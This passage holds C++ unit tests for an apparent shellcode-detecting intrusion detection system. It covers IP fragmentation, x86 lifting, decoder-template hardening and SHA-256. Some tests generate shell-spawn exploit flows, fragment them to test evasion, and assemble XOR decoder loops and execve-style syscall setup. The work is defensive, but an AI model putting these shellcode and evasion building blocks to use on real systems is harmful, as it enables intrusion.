  EXPECT_EQ(util::to_string(whole->payload), std::string(500, 'P'));
}

TEST(FragmentFrame, SmallFrameUntouched) {
  Endpoint src{Ipv4Addr::from_octets(1, 1, 1, 1), 1};
  Endpoint dst{Ipv4Addr::from_octets(2, 2, 2, 2), 2};
  Bytes frame = forge_udp(src, dst, util::to_bytes("tiny"));
  auto frags = fragment_frame(frame, 512);
  ASSERT_EQ(frags.size(), 1u);
  EXPECT_EQ(frags[0], frame);
}

TEST(FragmentFrame, OffsetsAreEightByteAligned) {
  Endpoint src{Ipv4Addr::from_octets(1, 1, 1, 1), 1};
  Endpoint dst{Ipv4Addr::from_octets(2, 2, 2, 2), 2};
  Bytes frame = forge_udp(src, dst, Bytes(100, 'x'));
  auto frags = fragment_frame(frame, 30);  // rounds down to 24
  for (const auto& f : frags) {
    auto pkt = parse_frame(f);
    ASSERT_TRUE(pkt.has_value());
  }
  // 8 + 100 = 108 bytes of IP payload at 24 per fragment = 5 fragments.
  EXPECT_EQ(frags.size(), 5u);
}

// ----------------------------------------------------- end-to-end evasion

TEST(FragmentEvasion, FragmentedExploitStillDetected) {
  const Ipv4Addr honeypot = Ipv4Addr::from_octets(10, 0, 0, 7);
  const Endpoint attacker{Ipv4Addr::from_octets(192, 0, 2, 66), 31337};

  // Build the exploit flow, then shred every frame into 64-byte fragments.
  gen::TraceBuilder tb(81);
  auto exploit = gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[1].code, tb.prng());
  tb.add_tcp_flow(attacker, Endpoint{honeypot, 80}, exploit);

  pcap::Capture fragmented;
  for (const auto& rec : tb.capture().records) {
    for (const auto& frag : fragment_frame(rec.data, 64)) {
      fragmented.add(rec.ts_sec, rec.ts_usec, frag);
    }
  }
  ASSERT_GT(fragmented.records.size(), tb.capture().records.size());

  core::NidsOptions options;
  core::NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(honeypot);
  core::Report report = nids.process_capture(fragmented);
  EXPECT_TRUE(report.detected(semantic::ThreatClass::kShellSpawn));
}

TEST(FragmentEvasion, ReassembledTrafficClassifiedBySourceTaint) {
  // A fragment train to a honeypot taints the source even though the
  // transport header only exists in the first fragment.
  const Ipv4Addr honeypot = Ipv4Addr::from_octets(10, 0, 0, 7);
  const Endpoint attacker{Ipv4Addr::from_octets(192, 0, 2, 66), 31337};
  gen::TraceBuilder tb(82);
  auto exploit = gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[5].code, tb.prng());
  tb.add_tcp_flow(attacker, Endpoint{honeypot, 80}, exploit);

  pcap::Capture fragmented;
  for (const auto& rec : tb.capture().records) {
    for (const auto& frag : fragment_frame(rec.data, 128)) {
      fragmented.add(rec.ts_sec, rec.ts_usec, frag);
    }
  }
  core::NidsOptions options;
  core::NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(honeypot);
  core::Report report = nids.process_capture(fragmented);
  EXPECT_TRUE(nids.classifier().is_tainted(attacker.ip));
  EXPECT_TRUE(report.detected(semantic::ThreatClass::kShellSpawn));
}

}  // namespace
}  // namespace senids::net
