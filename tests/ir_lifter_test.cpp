#include <gtest/gtest.h>

#include "gen/emitter.hpp"
#include "ir/lifter.hpp"
#include "arch/scan.hpp"

namespace senids::ir {
namespace {

using gen::Asm;
using gen::R32;
using gen::R8;
using util::Bytes;
using arch::RegFamily;

LiftResult lift_code(const Bytes& code, std::size_t entry = 0) {
  return lift(arch::execution_trace(code, entry));
}

const Event* find_mem_write(const LiftResult& r, std::size_t nth = 0) {
  std::size_t seen = 0;
  for (const Event& e : r.events) {
    if (e.kind == EventKind::kMemWrite && seen++ == nth) return &e;
  }
  return nullptr;
}

const Event* find_syscall(const LiftResult& r) {
  for (const Event& e : r.events) {
    if (e.kind == EventKind::kSyscall) return &e;
  }
  return nullptr;
}

TEST(Lifter, MovImmediateWritesConst) {
  Asm a;
  a.mov_r32_imm32(R32::ebx, 0x1234);
  auto r = lift_code(a.finish());
  ASSERT_EQ(r.events.size(), 1u);
  EXPECT_EQ(r.events[0].kind, EventKind::kRegWrite);
  EXPECT_EQ(r.events[0].reg, RegFamily::kBx);
  std::uint32_t v;
  ASSERT_TRUE(is_const(r.events[0].value, &v));
  EXPECT_EQ(v, 0x1234u);
}

TEST(Lifter, XorZeroingGivesConstZero) {
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  auto r = lift_code(a.finish());
  std::uint32_t v;
  ASSERT_TRUE(is_const(r.events[0].value, &v));
  EXPECT_EQ(v, 0u);
}

TEST(Lifter, SplitKeyConstructionFolds) {
  // mov ebx, 0x31 ; add ebx, 0x64 -> ebx == 0x95 (Figure 1(b)).
  Asm a;
  a.mov_r32_imm32(R32::ebx, 0x31);
  a.add_r32_imm(R32::ebx, 0x64);
  auto r = lift_code(a.finish());
  std::uint32_t v;
  ASSERT_TRUE(is_const(r.events.back().value, &v));
  EXPECT_EQ(v, 0x95u);
}

TEST(Lifter, SubRegisterWriteReadsBackConst) {
  // xor eax,eax ; mov al, 0x0b : eax must be the constant 0x0b.
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.mov_r8_imm8(R8::al, 0x0b);
  auto r = lift_code(a.finish());
  std::uint32_t v;
  ASSERT_TRUE(is_const(r.events.back().value, &v));
  EXPECT_EQ(v, 0x0bu);
}

TEST(Lifter, SubRegisterWriteOverUnknownKeepsLowByte) {
  // mov bl, 0x42 over an uninitialized ebx: the merge expression must
  // still expose low byte 0x42 when bl is read back (checked via a xor).
  Asm a;
  a.mov_r8_imm8(R8::bl, 0x42);
  a.xor_mem8_r8(R32::eax, R8::bl);
  auto r = lift_code(a.finish());
  const Event* store = find_mem_write(r);
  ASSERT_NE(store, nullptr);
  // Value is Xor(load8(init eax), 0x42): the bl read collapsed to const.
  ASSERT_EQ(store->value->kind, ExprKind::kBin);
  EXPECT_EQ(store->value->bop, BinOp::kXor);
  std::uint32_t v;
  ASSERT_TRUE(is_const(store->value->rhs, &v));
  EXPECT_EQ(v, 0x42u);
}

TEST(Lifter, XorDecoderStoreShape) {
  // xor byte [eax], 0x95: canonical decoder event.
  Asm a;
  a.xor_mem8_imm8(R32::eax, 0x95);
  auto r = lift_code(a.finish());
  const Event* store = find_mem_write(r);
  ASSERT_NE(store, nullptr);
  EXPECT_EQ(store->width, 8);
  EXPECT_EQ(to_string(store->addr), "init(eax)");
  EXPECT_EQ(to_string(store->value), "xor(load8@0(init(eax)), 0x95)");
}

TEST(Lifter, SplitLoadModifyStoreSameShape) {
  // mov dl,[eax]; xor dl,0x95; mov [eax],dl — semantically identical to
  // the single-instruction form; the stored value must normalize to the
  // same expression.
  Asm a;
  a.mov_r8_mem(R8::dl, R32::eax);
  a.alu_r8_imm8(6, R8::dl, 0x95);
  a.mov_mem_r8(R32::eax, 0, R8::dl);
  auto r = lift_code(a.finish());
  const Event* store = find_mem_write(r);
  ASSERT_NE(store, nullptr);
  EXPECT_EQ(to_string(store->value), "xor(load8@0(init(eax)), 0x95)");
}

TEST(Lifter, PushStoresValueAndMovesEsp) {
  Asm a;
  a.push_imm32(0x6e69622f);
  auto r = lift_code(a.finish());
  const Event* store = find_mem_write(r);
  ASSERT_NE(store, nullptr);
  std::uint32_t v;
  ASSERT_TRUE(is_const(store->value, &v));
  EXPECT_EQ(v, 0x6e69622fu);
  EXPECT_EQ(to_string(store->addr), "add(init(esp), 0xfffffffc)");
}

TEST(Lifter, PushPopForwardsValue) {
  Asm a;
  a.push_imm8(0x0b);
  a.pop_r32(R32::eax);
  auto r = lift_code(a.finish());
  std::uint32_t v;
  ASSERT_TRUE(is_const(r.events.back().value, &v));
  EXPECT_EQ(v, 0x0bu);
}

TEST(Lifter, StackedPushesPopInOrder) {
  Asm a;
  a.push_imm32(0xAAAA);
  a.push_imm32(0xBBBB);
  a.pop_r32(R32::eax);  // 0xBBBB
  a.pop_r32(R32::ebx);  // 0xAAAA (needs the no-alias skip over the newer store)
  auto r = lift_code(a.finish());
  std::uint32_t va = 0, vb = 0;
  const Event* wa = nullptr;
  const Event* wb = nullptr;
  for (const Event& e : r.events) {
    if (e.kind == EventKind::kRegWrite && e.reg == RegFamily::kAx) wa = &e;
    if (e.kind == EventKind::kRegWrite && e.reg == RegFamily::kBx) wb = &e;
  }
  ASSERT_TRUE(wa && wb);
  ASSERT_TRUE(is_const(wa->value, &va));
  ASSERT_TRUE(is_const(wb->value, &vb));
  EXPECT_EQ(va, 0xBBBBu);
  EXPECT_EQ(vb, 0xAAAAu);
}

TEST(Lifter, MovEbxEspTracksDerivedPointer) {
  Asm a;
  a.push_imm32(0x6e69622f);
  a.mov_r32_r32(R32::ebx, R32::esp);
  auto r = lift_code(a.finish());
  EXPECT_EQ(to_string(r.events.back().value), "add(init(esp), 0xfffffffc)");
}

TEST(Lifter, CallPushesReturnAddressConstant) {
  // jmp get; main: pop ebx; get: call main — ebx must be the constant
  // offset of the byte after the call (the GetPC idiom).
  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::ebx);
  a.ret();
  a.bind(lget);
  a.call(lmain);
  Bytes code = a.finish();
  const std::size_t after_call = code.size();  // call is the last instruction

  auto r = lift_code(code);
  const Event* ebx_write = nullptr;
  for (const Event& e : r.events) {
    if (e.kind == EventKind::kRegWrite && e.reg == RegFamily::kBx) ebx_write = &e;
  }
  ASSERT_NE(ebx_write, nullptr);
  std::uint32_t v;
  ASSERT_TRUE(is_const(ebx_write->value, &v));
  EXPECT_EQ(v, after_call);
}

TEST(Lifter, IncBecomesAddOne) {
  Asm a;
  a.inc_r32(R32::esi);
  auto r = lift_code(a.finish());
  EXPECT_EQ(to_string(r.events[0].value), "add(init(esi), 0x1)");
}

TEST(Lifter, LeaAdvanceMatchesIncShape) {
  Asm a1, a2;
  a1.inc_r32(R32::esi);
  a2.lea(R32::esi, R32::esi, 1);
  auto r1 = lift_code(a1.finish());
  auto r2 = lift_code(a2.finish());
  EXPECT_TRUE(struct_eq(r1.events[0].value, r2.events[0].value));
}

TEST(Lifter, SubMinusOneMatchesIncShape) {
  Asm a1, a2;
  a1.inc_r32(R32::edi);
  a2.sub_r32_imm(R32::edi, -1);
  auto r1 = lift_code(a1.finish());
  auto r2 = lift_code(a2.finish());
  EXPECT_TRUE(struct_eq(r1.events[0].value, r2.events[0].value));
}

TEST(Lifter, SyscallCapturesRegisters) {
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.mov_r8_imm8(R8::al, 0x0b);
  a.mov_r32_imm32(R32::ebx, 0x1000);
  a.int_imm(0x80);
  auto r = lift_code(a.finish());
  const Event* sys = find_syscall(r);
  ASSERT_NE(sys, nullptr);
  EXPECT_EQ(sys->vector, 0x80);
  std::uint32_t v;
  ASSERT_TRUE(is_const(sys->syscall_regs[static_cast<unsigned>(RegFamily::kAx)], &v));
  EXPECT_EQ(v, 0x0bu);
  ASSERT_TRUE(is_const(sys->syscall_regs[static_cast<unsigned>(RegFamily::kBx)], &v));
  EXPECT_EQ(v, 0x1000u);
}

TEST(Lifter, SyscallClobbersEax) {
  Asm a;
  a.mov_r32_imm32(R32::eax, 1);
  a.int_imm(0x80);
  a.mov_r32_r32(R32::ebx, R32::eax);
  auto r = lift_code(a.finish());
  // ebx's new value must NOT be const 1 (the kernel overwrote eax).
  std::uint32_t v;
  EXPECT_FALSE(is_const(r.events.back().value, &v));
}

TEST(Lifter, BranchEventsCarryTargets) {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.inc_r32(R32::eax);
  a.loop_(head);
  auto r = lift_code(a.finish());
  const Event* branch = nullptr;
  for (const Event& e : r.events) {
    if (e.kind == EventKind::kBranch) branch = &e;
  }
  ASSERT_NE(branch, nullptr);
  EXPECT_TRUE(branch->conditional);
  ASSERT_TRUE(branch->target.has_value());
  EXPECT_EQ(*branch->target, 0u);
  EXPECT_TRUE(branch->backward);
}

TEST(Lifter, LoopDecrementsEcx) {
  Asm a;
  auto head = a.new_label();
  a.mov_r32_imm32(R32::ecx, 10);
  a.bind(head);
  a.nop();
  a.loop_(head);
  auto r = lift_code(a.finish());
  // Find the ecx write produced by loop: value must be const 9.
  bool found = false;
  for (const Event& e : r.events) {
    std::uint32_t v;
    if (e.kind == EventKind::kRegWrite && e.reg == RegFamily::kCx && is_const(e.value, &v) &&
        v == 9) {
      found = true;
    }
  }
  EXPECT_TRUE(found);
}

TEST(Lifter, StosWritesAtEdi) {
  Asm a;
  a.raw8(0xAA);  // stosb
  auto r = lift_code(a.finish());
  const Event* store = find_mem_write(r);
  ASSERT_NE(store, nullptr);
  EXPECT_EQ(store->width, 8);
  EXPECT_EQ(to_string(store->addr), "init(edi)");
}

TEST(Lifter, XchgSwapsValues) {
  Asm a;
  a.mov_r32_imm32(R32::eax, 1);
  a.mov_r32_imm32(R32::ebx, 2);
  a.xchg_r32_r32(R32::eax, R32::ebx);
  a.mov_r32_r32(R32::ecx, R32::eax);  // ecx = 2
  auto r = lift_code(a.finish());
  std::uint32_t v;
  ASSERT_TRUE(is_const(r.events.back().value, &v));
  EXPECT_EQ(v, 2u);
}

TEST(Lifter, NotBuildsUnaryExpr) {
  Asm a;
  a.mov_r8_mem(R8::bl, R32::esi);
  a.not_r8(R8::bl);
  a.mov_mem_r8(R32::esi, 0, R8::bl);
  auto r = lift_code(a.finish());
  const Event* store = find_mem_write(r);
  ASSERT_NE(store, nullptr);
  // Stored value: And(Not(load8), 0xff) — the mask survives since Not
  // smears high bits.
  EXPECT_EQ(to_string(store->value), "and(not(load8@0(init(esi))), 0xff)");
}

TEST(Lifter, UnmodeledInstructionCountsApproximated) {
  Asm a;
  a.cdq();  // modeled as a clobber
  auto r = lift_code(a.finish());
  EXPECT_EQ(r.approximated, 0u);  // cdq is an exact clobber of edx, not approximated
  Asm b;
  b.raw8(0x0F);
  b.raw8(0x31);  // rdtsc
  auto r2 = lift_code(b.finish());
  EXPECT_GE(r2.approximated, 1u);
}

TEST(Lifter, EmptyTrace) {
  auto r = lift({});
  EXPECT_TRUE(r.events.empty());
  EXPECT_EQ(r.approximated, 0u);
}

}  // namespace
}  // namespace senids::ir

namespace senids::ir {
namespace {

using gen::Asm;
using gen::R32;
using util::Bytes;
using arch::RegFamily;

TEST(LifterMore, PushaPopaRoundTripRegisters) {
  Asm a;
  a.mov_r32_imm32(R32::ebx, 0x42);
  a.raw8(0x60);  // pusha
  a.mov_r32_imm32(R32::ebx, 0x99);
  a.raw8(0x61);  // popa: ebx restored
  a.mov_r32_r32(R32::edx, R32::ebx);
  auto r = lift(arch::execution_trace(a.finish(), 0));
  std::uint32_t v = 0;
  ASSERT_FALSE(r.events.empty());
  ASSERT_TRUE(is_const(r.events.back().value, &v));
  EXPECT_EQ(v, 0x42u);
}

TEST(LifterMore, LeaveRestoresFrame) {
  Asm a;
  a.mov_r32_imm32(R32::ebp, 0x1000);  // fake frame pointer
  a.push_r32(R32::ebp);               // [esp] = 0x1000
  a.mov_r32_r32(R32::ebp, R32::esp);  // enter-style prologue
  a.sub_r32_imm(R32::esp, 8);
  a.raw8(0xC9);                       // leave: esp = ebp; pop ebp
  a.mov_r32_r32(R32::eax, R32::ebp);  // eax = restored 0x1000
  auto r = lift(arch::execution_trace(a.finish(), 0));
  std::uint32_t v = 0;
  ASSERT_TRUE(is_const(r.events.back().value, &v));
  EXPECT_EQ(v, 0x1000u);
}

TEST(LifterMore, MoffsStoreProducesAbsoluteAddress) {
  Asm a;
  a.raw8(0xA2);  // mov [moffs8], al
  a.raw8(0x44);
  a.raw8(0x33);
  a.raw8(0x22);
  a.raw8(0x11);
  auto r = lift(arch::execution_trace(a.finish(), 0));
  const Event* store = nullptr;
  for (const auto& ev : r.events) {
    if (ev.kind == EventKind::kMemWrite) store = &ev;
  }
  ASSERT_NE(store, nullptr);
  std::uint32_t addr = 0;
  ASSERT_TRUE(is_const(store->addr, &addr));
  EXPECT_EQ(addr, 0x11223344u);
  EXPECT_EQ(store->width, 8);
}

TEST(LifterMore, XchgWithMemory) {
  Asm a;
  a.mov_r32_imm32(R32::ebx, 7);
  a.raw8(0x87);  // xchg [eax], ebx
  a.raw8(0x18);
  auto r = lift(arch::execution_trace(a.finish(), 0));
  // One store of the old ebx (7) at [eax]; ebx now holds the load.
  bool store_of_7 = false;
  for (const auto& ev : r.events) {
    std::uint32_t v;
    if (ev.kind == EventKind::kMemWrite && is_const(ev.value, &v) && v == 7) {
      store_of_7 = true;
    }
  }
  EXPECT_TRUE(store_of_7);
}

TEST(LifterMore, EnterEmitsFramePush) {
  Asm a;
  a.raw8(0xC8);  // enter 0x10, 0
  a.raw8(0x10);
  a.raw8(0x00);
  a.raw8(0x00);
  auto r = lift(arch::execution_trace(a.finish(), 0));
  bool pushed_ebp = false;
  for (const auto& ev : r.events) {
    if (ev.kind == EventKind::kMemWrite && ir::to_string(ev.value) == "init(ebp)") {
      pushed_ebp = true;
    }
  }
  EXPECT_TRUE(pushed_ebp);
}

}  // namespace
}  // namespace senids::ir
