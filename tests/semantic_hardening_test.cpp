// Regression tests for the false-positive hardening constraints in the
// template matcher. Each constraint was added to kill a concrete
// coincidental match observed in the Section-5.4 benign corpus; these
// tests pin both directions (real decoders still match, the FP shapes do
// not).
#include <gtest/gtest.h>

#include "gen/emitter.hpp"
#include "ir/lifter.hpp"
#include "semantic/library.hpp"
#include "arch/scan.hpp"

namespace senids::semantic {
namespace {

using gen::Asm;
using gen::R32;
using gen::R8;
using util::Bytes;

std::optional<MatchResult> run_match(const Template& t, const Bytes& code,
                                     std::size_t entry = 0) {
  auto trace = arch::execution_trace(code, entry);
  auto lifted = ir::lift(trace);
  LiftedCode lc{&trace, &lifted.events, code};
  return match_template(t, lc);
}

bool any_decoder_match(const Bytes& code) {
  for (const auto& t : make_decoder_library()) {
    if (run_match(t, code)) return true;
  }
  return false;
}

// ------------------------------------------------- store width == 8 bits

TEST(Hardening, DwordStoreRejected) {
  // add dword [ecx], imm32 ; dec ecx ; ... ; jcc back — observed FP shape.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.raw({std::initializer_list<std::uint8_t>{0x81, 0x01, 0x9c, 0x26, 0x36, 0x12}});
  // ^ add dword ptr [ecx], 0x1236269c
  a.inc_r32(R32::ecx);
  a.dec_r32(R32::edx);
  a.jnz(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

// ------------------------------------------- stride equals element size

TEST(Hardening, StrideMismatchRejected) {
  // byte store but the pointer advances by 4 (lodsd-style walk).
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(6, R32::esi, 0x5a);  // xor byte [esi], 0x5a
  a.add_r32_imm(R32::esi, 4);
  a.dec_r32(R32::ecx);
  a.jnz(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

// --------------------------------------- pointer survives to the back edge

TEST(Hardening, PointerClobberedBeforeBranchRejected) {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(6, R32::esi, 0x5a);
  a.inc_r32(R32::esi);
  a.mov_r32_imm32(R32::esi, 0x1234);  // pointer overwritten: next iteration broken
  a.dec_r32(R32::ecx);
  a.jnz(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

// ----------------------------------------------- advance is a pure step

TEST(Hardening, MemWritingAdvanceRejected) {
  // movsb advances edi but also overwrites the "decoded" byte.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.raw8(0xC0);  // rol byte ptr [edi], 0xf  => C0 0F 0F
  a.raw8(0x0F);
  a.raw8(0x0F);
  a.raw8(0xA4);  // movsb
  a.dec_r32(R32::ecx);
  a.jnz(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

// -------------------------------------------------------- loop discipline

TEST(Hardening, OverflowConditionRejected) {
  // jo-terminated "loop" — no real engine branches on overflow.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(0, R32::ebx, 0x3f);  // add byte [ebx], 0x3f
  a.dec_r32(R32::ebx);
  a.dec_r32(R32::ecx);
  a.jcc(0x0, head);  // jo
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

TEST(Hardening, FlagSourceMustBeRegisterCount) {
  // The nearest flag-setter before the jnz is the memory add itself, not
  // a register counter.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.inc_r32(R32::esi);                 // advance first
  a.alu_mem8_imm8(0, R32::esi, 0x3f);  // add byte [esi], 0x3f (sets flags last)
  a.jnz(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

// ----------------------------------------- counter and pointer separation

TEST(Hardening, PointerAsLoopCounterRejected) {
  // dec edi both advances the pointer and feeds the branch condition.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(5, R32::edi, 0xe9);  // sub byte [edi], 0xe9
  a.dec_r32(R32::edi);
  a.jcc(0x8, head);  // js
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

TEST(Hardening, LoopClassWithEcxPointerRejected) {
  // loop decrements ecx; using ecx as the decode pointer conflates the
  // two roles.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(0, R32::ecx, 0x2f);  // add byte [ecx], 0x2f
  a.dec_r32(R32::ecx);                 // "advance"
  a.loop_(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

// ------------------------------------------------ invertibility of f(v)

TEST(Hardening, NonInvertibleOrTransformRejected) {
  // or byte [esi], k destroys information: not a decoder.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(1, R32::esi, 0x40);  // or byte [esi], 0x40
  a.inc_r32(R32::esi);
  a.dec_r32(R32::ecx);
  a.jnz(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

TEST(Hardening, NonInvertibleAndTransformRejected) {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(4, R32::esi, 0x0f);  // and byte [esi], 0x0f
  a.inc_r32(R32::esi);
  a.dec_r32(R32::ecx);
  a.jnz(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

TEST(Hardening, InvertibleNotTransformStillMatches) {
  // not byte [esi] is a bijection built from the alt template's operator
  // set — a legitimate (if degenerate) decode transform... but it has no
  // constant leaf, so the alternate template's key requirement rejects
  // it. Pin that behaviour.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.raw({std::initializer_list<std::uint8_t>{0xF6, 0x16}});  // not byte ptr [esi]
  a.inc_r32(R32::esi);
  a.dec_r32(R32::ecx);
  a.jnz(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

// ------------------------------------------ real decoders still match

TEST(Hardening, CanonicalDecodersStillMatch) {
  // xor via imm, xor via register key, additive, and the or/and/not xor.
  {
    Asm a;
    auto head = a.new_label();
    a.bind(head);
    a.xor_mem8_imm8(R32::esi, 0x42);
    a.inc_r32(R32::esi);
    a.loop_(head);
    EXPECT_TRUE(any_decoder_match(a.finish()));
  }
  {
    Asm a;
    auto head = a.new_label();
    a.bind(head);
    a.alu_mem8_imm8(0, R32::edi, 0x11);  // add byte [edi], 0x11
    a.inc_r32(R32::edi);
    a.dec_r32(R32::ecx);
    a.jnz(head);
    EXPECT_TRUE(any_decoder_match(a.finish()));
  }
  {
    // The Figure-7 or/and/not xor-equivalent is invertible and must pass.
    Asm a;
    auto head = a.new_label();
    a.bind(head);
    a.mov_r8_mem(R8::al, R32::esi);
    a.alu_r8_imm8(1, R8::al, 0x5a);
    a.mov_r8_mem(R8::bl, R32::esi);
    a.alu_r8_imm8(4, R8::bl, 0x5a);
    a.not_r8(R8::bl);
    a.alu_r8_r8(4, R8::al, R8::bl);
    a.mov_mem_r8(R32::esi, 0, R8::al);
    a.inc_r32(R32::esi);
    a.loop_(head);
    EXPECT_TRUE(any_decoder_match(a.finish()));
  }
}

TEST(Hardening, RorDecoderMatchesExtensionTemplate) {
  // The rotate template lives in the extended (opt-in) library.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.mov_r8_mem(R8::al, R32::esi);
  a.shift_r8_imm8(1, R8::al, 3);  // ror al, 3
  a.mov_mem_r8(R32::esi, 0, R8::al);
  a.inc_r32(R32::esi);
  a.loop_(head);
  Bytes code = a.finish();
  EXPECT_FALSE(any_decoder_match(code));  // not in the standard decoder set
  EXPECT_TRUE(run_match(tmpl_ror_decrypt_loop(), code).has_value());
}

TEST(Hardening, BackwardWalkingDecoderStillMatches) {
  // Decoders may walk downward (dec pointer) with a separate counter.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::esi, 0x33);
  a.dec_r32(R32::esi);
  a.dec_r32(R32::ecx);
  a.jnz(head);
  EXPECT_TRUE(any_decoder_match(a.finish()));
}

}  // namespace
}  // namespace senids::semantic

namespace senids::semantic {
namespace {

// Constraints added after the 566 MB false-positive sweep; each pins the
// concrete coincidental shape that survived the earlier hardening.

TEST(Hardening, KeyFromPointerRegisterRejected) {
  // add byte [edx], dh — the "key" is carved out of the walking pointer.
  Asm a;
  auto head = a.new_label();
  a.mov_r32_imm32(R32::edx, 0x47549ba2);
  a.bind(head);
  a.raw({std::initializer_list<std::uint8_t>{0x00, 0x32}});  // add [edx], dh
  a.dec_r32(R32::edx);
  a.dec_r32(R32::ecx);
  a.jnz(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

TEST(Hardening, JecxzBackedgeRejected) {
  // jecxz loops while ecx is zero: not a count-down loop.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(0, R32::esi, 0x21);  // add byte [esi], 0x21
  a.inc_r32(R32::esi);
  a.jecxz(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

TEST(Hardening, StringOpAdvanceRejected) {
  // cmpsb advances esi as a comparison side effect, not a pointer walk.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::esi, 0xa6);
  a.raw8(0xA6);  // cmpsb
  a.loop_(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

TEST(Hardening, RegisterKeyFromOtherFamilyStillMatches) {
  // Sanity: a key in a register of a *different* family is legitimate.
  Asm a;
  auto head = a.new_label();
  a.mov_r8_imm8(R8::bl, 0x42);
  a.bind(head);
  a.xor_mem8_r8(R32::esi, R8::bl);
  a.inc_r32(R32::esi);
  a.loop_(head);
  EXPECT_TRUE(any_decoder_match(a.finish()));
}

}  // namespace
}  // namespace senids::semantic

namespace senids::semantic {
namespace {

TEST(Hardening, GarbageCounterInitRejected) {
  // The counter register holds a junk-derived (non-constant-foldable)
  // value at loop entry: not a plausible length.
  Asm a;
  auto head = a.new_label();
  a.mov_r32_mem(R32::ecx, R32::esp);  // ecx = some runtime value
  a.bind(head);
  a.xor_mem8_imm8(R32::esi, 0x42);
  a.inc_r32(R32::esi);
  a.loop_(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

TEST(Hardening, HugeCounterInitRejected) {
  Asm a;
  auto head = a.new_label();
  a.mov_r32_imm32(R32::ecx, 0x40000000);  // 1 GiB "payload": implausible
  a.bind(head);
  a.xor_mem8_imm8(R32::esi, 0x42);
  a.inc_r32(R32::esi);
  a.loop_(head);
  EXPECT_FALSE(any_decoder_match(a.finish()));
}

TEST(Hardening, UninitializedCounterStillAccepted) {
  // Figure 1 shape: the snippet assumes the caller set ecx.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::eax, 0x95);
  a.inc_r32(R32::eax);
  a.loop_(head);
  EXPECT_TRUE(any_decoder_match(a.finish()));
}

TEST(Hardening, ConstCounterInitAccepted) {
  Asm a;
  auto head = a.new_label();
  a.mov_r32_imm32(R32::ecx, 128);
  a.bind(head);
  a.xor_mem8_imm8(R32::esi, 0x42);
  a.inc_r32(R32::esi);
  a.loop_(head);
  EXPECT_TRUE(any_decoder_match(a.finish()));
}

}  // namespace
}  // namespace senids::semantic
