// Unit tests for the verdict-cache building blocks: the SHA-256
// primitive (FIPS 180-4 vectors), the configuration fingerprint, and the
// sharded byte-budgeted LRU itself.
#include <gtest/gtest.h>

#include "cache/fingerprint.hpp"
#include "cache/sha256.hpp"
#include "cache/verdict_cache.hpp"
#include "core/engine.hpp"
#include "semantic/library.hpp"
#include "util/bytes.hpp"
#include "util/prng.hpp"

namespace senids {
namespace {

std::string hex(const cache::Digest& d) {
  return util::to_hex(util::ByteView{d.data(), d.size()});
}

// ------------------------------------------------------------------ SHA-256

TEST(Sha256, Fips180KnownVectors) {
  EXPECT_EQ(hex(cache::Sha256::hash(util::as_bytes(""))),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  EXPECT_EQ(hex(cache::Sha256::hash(util::as_bytes("abc"))),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_EQ(hex(cache::Sha256::hash(util::as_bytes(
                "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"))),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
}

TEST(Sha256, MillionAs) {
  cache::Sha256 ctx;
  const std::string chunk(1000, 'a');
  for (int i = 0; i < 1000; ++i) ctx.update(util::as_bytes(chunk));
  EXPECT_EQ(hex(ctx.finish()),
            "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
}

TEST(Sha256, IncrementalEqualsOneShot) {
  // Split points that exercise the buffering paths: mid-block, exactly at
  // a block boundary, and multi-block tails.
  const util::Bytes data = util::Prng(42).bytes(257);
  const cache::Digest whole = cache::Sha256::hash(data);
  for (std::size_t split : {std::size_t{1}, std::size_t{63}, std::size_t{64},
